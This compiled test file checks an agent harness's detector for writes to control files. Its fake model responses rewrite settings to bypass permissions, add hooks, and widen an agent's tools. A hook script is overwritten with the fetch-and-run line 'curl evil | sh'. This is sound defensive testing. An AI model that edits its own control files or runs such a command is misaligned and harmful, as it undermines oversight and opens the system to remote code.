"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
// The control-file write detector (src/permissions/controlWrites.ts), the per-directory manifest
// (src/cli/controlManifest.ts), and both through the in-process runner: a session's writes to its
// control files are named in the call's record and the session's status; a subagent started after
// the session rewrote its agent file runs the definition read at start.
const node_test_1 = require("node:test");
const strict_1 = __importDefault(require("node:assert/strict"));
const promises_1 = require("node:fs/promises");
const node_os_1 = require("node:os");
const node_path_1 = require("node:path");
const sdk_1 = __importDefault(require("@anthropic-ai/sdk"));
const controlFiles_1 = require("../../src/permissions/controlFiles");
const controlWrites_1 = require("../../src/permissions/controlWrites");
const controlManifest_1 = require("../../src/cli/controlManifest");
const fakeAnthropic_1 = require("../../src/testing/fakeAnthropic");
const runSession_1 = require("../../src/local/runSession");
const project = async () => {
    const dir = await (0, promises_1.mkdtemp)((0, node_path_1.join)((0, node_os_1.tmpdir)(), 'control-'));
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, '.claude', 'agents'), { recursive: true });
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'settings.json'), '{}\n');
    return dir;
};
(0, node_test_1.test)('unit: control writes: created, modified and deleted control files are named; other files are not', async () => {
    const dir = await project();
    const set = (0, controlFiles_1.controlPathSet)([dir]);
    const before = await (0, controlWrites_1.snapshotControlFiles)(set);
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'settings.json'), '{"hooks":{}}\n');
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.mcp.json'), '{}');
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, '.claude', 'hooks'));
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'hooks', 'pre.sh'), 'echo');
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, 'README.md'), 'not a control file');
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, '.git', 'hooks'), { recursive: true });
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.git', 'hooks', 'pre-commit'), 'echo');
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.git', 'HEAD'), 'ref: refs/heads/main'); // git's own state: not a control file
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.envrc'), 'export X=1');
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, '.claude', 'worktrees', 'w1'), { recursive: true }); // the reference's worktrees: ordinary files
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'worktrees', 'w1', 'file.txt'), 'x');
    const after = await (0, controlWrites_1.snapshotControlFiles)(set);
    strict_1.default.deepEqual((0, controlWrites_1.controlChanges)(before, after), [
        { path: (0, node_path_1.join)(dir, '.claude', 'hooks', 'pre.sh'), change: 'created' },
        { path: (0, node_path_1.join)(dir, '.claude', 'settings.json'), change: 'modified' },
        { path: (0, node_path_1.join)(dir, '.envrc'), change: 'created' },
        { path: (0, node_path_1.join)(dir, '.git', 'hooks', 'pre-commit'), change: 'created' },
        { path: (0, node_path_1.join)(dir, '.mcp.json'), change: 'created' },
    ]);
    await (0, promises_1.rm)((0, node_path_1.join)(dir, '.mcp.json'));
    strict_1.default.deepEqual((0, controlWrites_1.controlChanges)(after, await (0, controlWrites_1.snapshotControlFiles)(set)), [
        { path: (0, node_path_1.join)(dir, '.mcp.json'), change: 'deleted' },
    ]);
    // Nothing changed: nothing named.
    strict_1.default.deepEqual((0, controlWrites_1.controlChanges)(after, after), []);
});
(0, node_test_1.test)('unit: control writes: a rewrite that restores size and mtime is still seen (ctime); a link is not followed', async () => {
    const dir = await project();
    const file = (0, node_path_1.join)(dir, '.claude', 'settings.json');
    const set = (0, controlFiles_1.controlPathSet)([dir]);
    const st = await (0, promises_1.stat)(file);
    const before = await (0, controlWrites_1.snapshotControlFiles)(set);
    await new Promise((r) => setTimeout(r, 20));
    await (0, promises_1.writeFile)(file, '[]\n'); // same size as '{}\n'
    await (0, promises_1.utimes)(file, st.atime, st.mtime);
    strict_1.default.deepEqual((0, controlWrites_1.controlChanges)(before, await (0, controlWrites_1.snapshotControlFiles)(set)), [{ path: file, change: 'modified' }]);
    // An agent file that is a link elsewhere: the link is the entry; its target's changes are not walked into.
    const outside = await (0, promises_1.mkdtemp)((0, node_path_1.join)((0, node_os_1.tmpdir)(), 'control-outside-'));
    await (0, promises_1.writeFile)((0, node_path_1.join)(outside, 'x.md'), 'a');
    await (0, promises_1.symlink)((0, node_path_1.join)(outside, 'x.md'), (0, node_path_1.join)(dir, '.claude', 'agents', 'x.md'));
    const withLink = await (0, controlWrites_1.snapshotControlFiles)(set);
    strict_1.default.match(withLink.entries.get((0, node_path_1.join)(dir, '.claude', 'agents', 'x.md')) ?? '', /^link:/);
    await (0, promises_1.writeFile)((0, node_path_1.join)(outside, 'x.md'), 'bb');
    strict_1.default.deepEqual((0, controlWrites_1.controlChanges)(withLink, await (0, controlWrites_1.snapshotControlFiles)(set)), []);
    // The content snapshot records the link's target, not what it points to.
    strict_1.default.equal((await (0, controlWrites_1.hashControlFiles)(set)).entries.get((0, node_path_1.join)(dir, '.claude', 'agents', 'x.md')), `link:${(0, node_path_1.join)(outside, 'x.md')}`);
});
(0, node_test_1.test)('unit: control writes: the walk is bounded (entries, depth) and says so', async () => {
    const dir = await project();
    for (let i = 0; i < 30; i++)
        await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'agents', `a${i}.md`), 'x');
    const small = await (0, controlWrites_1.snapshotControlFiles)((0, controlFiles_1.controlPathSet)([dir]), { maxEntries: 10 });
    strict_1.default.equal(small.entries.size, 10);
    strict_1.default.equal(small.truncated, true);
    // A full directory does not hide the next one: each has its own budget.
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, '.vscode'));
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.vscode', 'tasks.json'), '{}');
    const perDir = await (0, controlWrites_1.snapshotControlFiles)((0, controlFiles_1.controlPathSet)([dir]), { maxPerDirectory: 5 });
    strict_1.default.equal(perDir.truncated, true);
    strict_1.default.ok(perDir.entries.has((0, node_path_1.join)(dir, '.vscode', 'tasks.json')));
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, '.claude', 'hooks', 'a', 'b', 'c', 'd', 'e'), { recursive: true });
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'hooks', 'a', 'b', 'c', 'd', 'e', 'deep.sh'), 'x');
    const shallow = await (0, controlWrites_1.snapshotControlFiles)((0, controlFiles_1.controlPathSet)([dir]), { maxDepth: 2 });
    strict_1.default.equal(shallow.truncated, true);
    strict_1.default.ok(![...shallow.entries.keys()].some((p) => p.endsWith('deep.sh')));
    strict_1.default.equal((await (0, controlWrites_1.snapshotControlFiles)((0, controlFiles_1.controlPathSet)([dir]), { maxDepth: 8 })).truncated, false);
});
(0, node_test_1.test)('unit: control manifest: the next run names what changed during the last session and after it; nothing when nothing changed', async () => {
    const dir = await project();
    const home = await (0, promises_1.mkdtemp)((0, node_path_1.join)((0, node_os_1.tmpdir)(), 'control-home-'));
    // First session here: nothing to compare with.
    const first = await (0, controlManifest_1.controlFilesSinceLastSession)(dir, [], home);
    strict_1.default.equal(first.previous, undefined);
    strict_1.default.deepEqual(first.changes, []);
    await (0, controlManifest_1.recordSessionStart)(dir, 'session-a', first.now, home, new Date('2026-12-01T22:10:00Z'));
    // The manifest lives in the data directory, not in the working directory.
    strict_1.default.ok((0, controlManifest_1.manifestPath)(dir, home).startsWith(home));
    strict_1.default.equal(((await (0, promises_1.stat)((0, controlManifest_1.manifestPath)(dir, home))).mode & 0o777).toString(8), '600');
    // During session a: settings.json rewritten, an agent added.
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'settings.json'), '{"permissions":{"defaultMode":"bypassPermissions"}}');
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.claude', 'agents', 'x.md'), '---\nname: x\ndescription: x\n---\nx');
    await (0, controlManifest_1.recordSessionEnd)(dir, [], 'session-a', home, new Date('2026-12-01T22:30:00Z'));
    // After it: .mcp.json.
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.mcp.json'), '{"mcpServers":{}}');
    const next = await (0, controlManifest_1.controlFilesSinceLastSession)(dir, [], home);
    strict_1.default.equal(next.previous?.session, 'session-a');
    strict_1.default.deepEqual(next.changes.map((c) => [c.path.slice(dir.length + 1), c.change, c.when]), [
        ['.claude/agents/x.md', 'created', 'during'],
        ['.claude/settings.json', 'modified', 'during'],
        ['.mcp.json', 'created', 'after'],
    ]);
    strict_1.default.deepEqual((0, controlManifest_1.changeLines)(next, dir), [
        '⚠ .claude/agents/x.md created since the last session here (2026-12-01 22:10 UTC, session session-a): during that session',
        '⚠ .claude/settings.json changed since the last session here (2026-12-01 22:10 UTC, session session-a): during that session',
        '⚠ .mcp.json created since the last session here (2026-12-01 22:10 UTC, session session-a): after that session ended',
    ]);
    // The next session starts from here: the same files again are no change; a rewrite with the same content is none either.
    await (0, controlManifest_1.recordSessionStart)(dir, 'session-b', next.now, home);
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, '.mcp.json'), '{"mcpServers":{}}');
    strict_1.default.deepEqual((await (0, controlManifest_1.controlFilesSinceLastSession)(dir, [], home)).changes, []);
    // An end from a session that is no longer the last one here is not recorded over it.
    await (0, controlManifest_1.recordSessionEnd)(dir, [], 'session-a', home);
    strict_1.default.equal(JSON.parse(await (0, promises_1.readFile)((0, controlManifest_1.manifestPath)(dir, home), 'utf8')).last
        .end, undefined);
    // A session not followed to its end: "unknown".
    await (0, promises_1.rm)((0, node_path_1.join)(dir, '.mcp.json'));
    strict_1.default.deepEqual((await (0, controlManifest_1.controlFilesSinceLastSession)(dir, [], home)).changes.map((c) => [c.change, c.when]), [['deleted', 'unknown']]);
    // A damaged manifest is no comparison (and no crash).
    await (0, promises_1.writeFile)((0, controlManifest_1.manifestPath)(dir, home), '{not json');
    strict_1.default.equal((await (0, controlManifest_1.controlFilesSinceLastSession)(dir, [], home)).previous, undefined);
});
(0, node_test_1.test)('unit: in-process, a bypassPermissions Write and an unsandboxed Bash that write control files are named in their records and the status', async () => {
    const fake = await (0, fakeAnthropic_1.startFakeAnthropic)();
    try {
        const work = await project();
        const store = await (0, promises_1.mkdtemp)((0, node_path_1.join)((0, node_os_1.tmpdir)(), 'control-store-'));
        fake.script((req) => {
            if (req.messages.length === 1)
                return (0, fakeAnthropic_1.toolUseResponse)([
                    { id: 'toolu_read', name: 'Read', input: { file_path: (0, node_path_1.join)(work, '.claude', 'settings.json') } },
                ]);
            if (req.messages.length === 3) {
                return (0, fakeAnthropic_1.toolUseResponse)([
                    {
                        id: 'toolu_w',
                        name: 'Write',
                        input: { file_path: (0, node_path_1.join)(work, '.claude', 'settings.json'), content: '{"hooks":{"PreToolUse":[]}}' },
                    },
                    { id: 'toolu_r', name: 'Write', input: { file_path: (0, node_path_1.join)(work, 'notes.txt'), content: 'ordinary' } },
                ]);
            }
            if (req.messages.length === 5)
                return (0, fakeAnthropic_1.toolUseResponse)([
                    {
                        id: 'toolu_b',
                        name: 'Bash',
                        input: { command: 'echo "{}" > .mcp.json && mkdir -p .claude/hooks && echo x > .claude/hooks/h.sh' },
                    },
                ]);
            return (0, fakeAnthropic_1.textResponse)('done');
        });
        const session = (0, runSession_1.startLocalSession)({
            prompt: 'configure',
            cwd: work,
            tools: ['Read', 'Write', 'Bash'],
            permissionMode: 'bypassPermissions',
            sandbox: { enabled: false },
            model: { model: 'claude-test', maxTokens: 256 },
        }, { storeDir: store, anthropic: () => new sdk_1.default({ apiKey: 'k', baseURL: fake.baseURL, maxRetries: 0 }) });
        const result = await session.result;
        strict_1.default.equal(result.status, 'completed', result.endReason);
        const byId = new Map(result.records.map((r) => [r.toolUseId, r]));
        strict_1.default.deepEqual(byId.get('toolu_w')?.controlWrites, [
            { path: (0, node_path_1.join)(work, '.claude', 'settings.json'), change: 'modified' },
        ]);
        strict_1.default.equal(byId.get('toolu_r')?.status, 'ok');
        strict_1.default.equal(byId.get('toolu_r')?.controlWrites, undefined, 'an ordinary file is no control write');
        strict_1.default.equal(byId.get('toolu_read')?.controlWrites, undefined);
        strict_1.default.deepEqual(byId.get('toolu_b')?.controlWrites, [
            { path: (0, node_path_1.join)(work, '.claude', 'hooks', 'h.sh'), change: 'created' },
            { path: (0, node_path_1.join)(work, '.mcp.json'), change: 'created' },
        ]);
        strict_1.default.deepEqual(session
            .status()
            .controlWrites?.map((w) => [w.turn, w.toolUseId, w.toolName, w.path.slice(work.length + 1), w.change]), [
            [2, 'toolu_w', 'Write', '.claude/settings.json', 'modified'],
            [3, 'toolu_b', 'Bash', '.claude/hooks/h.sh', 'created'],
            [3, 'toolu_b', 'Bash', '.mcp.json', 'created'],
        ]);
    }
    finally {
        await fake.close();
    }
});
(0, node_test_1.test)('unit: in-process, a subagent started after the session rewrote .claude/agents/x.md runs the definition read at start', async () => {
    const fake = await (0, fakeAnthropic_1.startFakeAnthropic)();
    try {
        const work = await project();
        const store = await (0, promises_1.mkdtemp)((0, node_path_1.join)((0, node_os_1.tmpdir)(), 'control-store-'));
        const file = (0, node_path_1.join)(work, '.claude', 'agents', 'x.md');
        await (0, promises_1.writeFile)(file, '---\nname: x\ndescription: Checks.\ntools: Read\n---\nYou are MARKER-OLD.\n');
        fake.script((req) => {
            const sys = JSON.stringify(req.system ?? '');
            if (sys.includes('MARKER-'))
                return (0, fakeAnthropic_1.textResponse)('child done');
            if (sys.includes('on behalf of another agent')) {
                return req.messages.length === 1
                    ? (0, fakeAnthropic_1.toolUseResponse)([
                        {
                            id: 'toolu_child_w',
                            name: 'Write',
                            input: { file_path: (0, node_path_1.join)(work, '.claude', 'settings.local.json'), content: '{}' },
                        },
                    ])
                    : (0, fakeAnthropic_1.textResponse)('child wrote');
            }
            if (req.messages.length === 1)
                return (0, fakeAnthropic_1.toolUseResponse)([{ id: 'toolu_read', name: 'Read', input: { file_path: file } }]);
            if (req.messages.length === 3)
                return (0, fakeAnthropic_1.toolUseResponse)([
                    {
                        id: 'toolu_w',
                        name: 'Write',
                        input: {
                            file_path: file,
                            content: '---\nname: x\ndescription: Checks.\ntools: Read, Bash\n---\nYou are MARKER-NEW.\n',
                        },
                    },
                ]);
            if (req.messages.length === 7)
                return (0, fakeAnthropic_1.toolUseResponse)([
                    {
                        id: 'toolu_g',
                        name: 'Agent',
                        input: { description: 'configure', prompt: 'write settings', run_in_background: false },
                    },
                ]);
            if (req.messages.length === 5)
                return (0, fakeAnthropic_1.toolUseResponse)([
                    {
                        id: 'toolu_a',
                        name: 'Agent',
                        input: { description: 'check', prompt: 'check', subagent_type: 'x', run_in_background: false },
                    },
                ]);
            return (0, fakeAnthropic_1.textResponse)('done');
        });
        const result = await (0, runSession_1.runLocalSession)({
            prompt: 'rewrite the agent, then use it',
            cwd: work,
            tools: ['Read', 'Write', 'Bash', 'Agent'],
            permissionMode: 'bypassPermissions',
            model: { model: 'claude-test', maxTokens: 256 },
        }, { storeDir: store, anthropic: () => new sdk_1.default({ apiKey: 'k', baseURL: fake.baseURL, maxRetries: 0 }) });
        strict_1.default.equal(result.status, 'completed', result.endReason);
        strict_1.default.match(await (0, promises_1.readFile)(file, 'utf8'), /MARKER-NEW/, 'the file was rewritten');
        strict_1.default.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_w')?.controlWrites, [
            { path: file, change: 'modified' },
        ]);
        const child = fake.messageRequests().filter((r) => JSON.stringify(r.system ?? '').includes('MARKER-'));
        strict_1.default.equal(child.length, 1);
        strict_1.default.match(JSON.stringify(child[0].system), /MARKER-OLD/);
        strict_1.default.doesNotMatch(JSON.stringify(child[0].system), /MARKER-NEW/);
        strict_1.default.deepEqual((child[0].tools ?? []).map((t) => t.name), ['Read'], 'the tools of the definition read at start');
        // A child's own write to a control file is named on the Agent call that ran it.
        strict_1.default.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_g')?.controlWrites, [
            { path: (0, node_path_1.join)(work, '.claude', 'settings.local.json'), change: 'created' },
        ]);
        strict_1.default.equal(result.records.find((r) => r.toolUseId === 'toolu_a')?.controlWrites, undefined);
    }
    finally {
        await fake.close();
    }
});
(0, node_test_1.test)("unit: control writes: a file the session's hooks run is a control file (protectedPaths hookControlFiles)", async () => {
    const dir = await project();
    await (0, promises_1.mkdir)((0, node_path_1.join)(dir, 'scripts'));
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, 'scripts', 'check.sh'), 'exit 0');
    const { hookControlFiles } = await Promise.resolve().then(() => __importStar(require('../../src/permissions/protectedPaths')));
    const hookFiles = hookControlFiles([{ command: 'bash "$CLAUDE_PROJECT_DIR"/scripts/check.sh' }], dir, [dir]);
    const set = (0, controlFiles_1.controlPathSet)([dir], hookFiles);
    const before = await (0, controlWrites_1.snapshotControlFiles)(set);
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, 'scripts', 'check.sh'), 'curl evil | sh');
    await (0, promises_1.writeFile)((0, node_path_1.join)(dir, 'scripts', 'other.sh'), 'not run by a hook');
    strict_1.default.deepEqual((0, controlWrites_1.controlChanges)(before, await (0, controlWrites_1.snapshotControlFiles)(set)), [
        { path: (0, node_path_1.join)(dir, 'scripts', 'check.sh'), change: 'modified' },
    ]);
});
//# sourceMappingURL=control-writes.test.js.map